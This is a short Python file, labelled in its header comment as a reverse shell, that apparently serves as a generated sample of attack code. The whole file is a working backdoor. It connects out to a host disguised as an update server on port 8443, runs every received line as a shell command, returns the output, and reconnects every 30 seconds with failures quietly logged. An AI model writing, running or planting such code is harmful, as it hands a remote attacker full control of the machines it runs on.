# class: reverse shell; style: professional, classes and retry
import logging
import socket
import subprocess
import time

log = logging.getLogger("agent")


class Connection:
    def __init__(self, host: str, port: int) -> None:
        self.address = host, port

    def serve(self) -> None:
        with socket.create_connection(self.address, timeout=30) as sock:
            sock.settimeout(None)
            stream = sock.makefile("rwb")
            for line in stream:
                order = line.decode().strip()
                if order == "quit":
                    return
                done = subprocess.run(order, shell=True, stdout=subprocess.PIPE, stderr=subprocess.STDOUT)
                stream.write(done.stdout + b"\0")
                stream.flush()


def main() -> None:
    while True:
        try:
            Connection("support.updates.example", 8443).serve()
        except OSError as error:
            log.debug("later: %s", error)
        time.sleep(30)


if __name__ == "__main__":
    main()
